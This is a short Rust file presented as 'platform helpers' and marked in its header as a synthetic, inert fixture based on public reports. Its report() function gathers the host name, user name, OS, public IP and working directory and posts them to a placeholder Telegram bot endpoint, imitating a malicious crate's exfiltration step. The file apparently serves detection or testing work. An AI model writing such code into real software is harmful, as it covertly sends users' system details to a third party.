// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

fn output_of(program: &str) -> String {
    std::process::Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of("hostname");
    let user = std::env::var("USER")
        .or_else(|_| std::env::var("USERNAME"))
        .unwrap_or_default();
    let kind = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = reqwest::blocking::get("https://ip.example.com/plain")
        .and_then(|r| r.text())
        .unwrap_or_default();
    let folder = std::env::current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = "https://api.telegram.org.invalid/bot000000000:FAKE-TOKEN-FOR-TESTS/sendMessage";
    let _ = reqwest::blocking::Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}
